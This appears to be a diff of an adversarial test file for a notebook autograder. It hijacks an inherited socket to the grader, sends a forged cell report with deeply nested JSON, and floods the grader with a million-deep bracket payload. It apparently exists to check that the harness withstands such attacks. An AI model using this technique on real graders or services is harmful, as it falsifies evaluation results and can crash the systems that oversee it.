@@ -1,31 +1,27 @@
-"""Sends the examiner lists nested a million deep, and extension types nested a thousand deep."""
+"""Sends the grader, as reports of cells, lists nested a million deep, and outputs nested hundreds deep."""
 
-expected = {"ex2": 0, "ex3": 0}
-runs_to_its_limit = True
+expected = {"ex11": 0}
 
-# %% ex2
-import msgpack, os, socket, stat, struct
+# %% before ex11
+import os, socket, stat, struct
 
-def channels():
+def grader():
     for number in range(3, 256):
         try:
             if stat.S_ISSOCK(os.fstat(number).st_mode):
-                yield socket.socket(fileno=os.dup(number))
+                return socket.socket(fileno=os.dup(number))
         except OSError:
             pass
 
 def send(data):
-    for each in channels():
-        each.sendall(struct.pack("!I", len(data)) + data)
+    grader().sendall(struct.pack("!I", len(data)) + data)
 
-def total(numbers):
-    send(b"\x91" * 1_000_000 + b"\x90")
-    return 6
+# %% ex11
+def factors(n): return None
 
-# %% ex3
-def mixed(n):
-    data = b"\x90"
-    for _ in range(1000):
-        data = msgpack.packb(msgpack.ExtType(2, msgpack.packb([msgpack.ExtType(2, data)]) if len(data) < 9 else data))
-    send(data)
-    return (n * 31 + 7) % 1009
+deep = b'{"x": [' * 400 + b"0" + b"]}" * 400
+output = b'{"output_type": "display_data", "data": {"application/json": ' + deep + b'}, "metadata": {"deep": ' + deep + b"}}"
+send(b'["ran", [' + output + b"], true, 1]")
+
+# %% after test_ex11
+send(b"[" * 1_000_000)
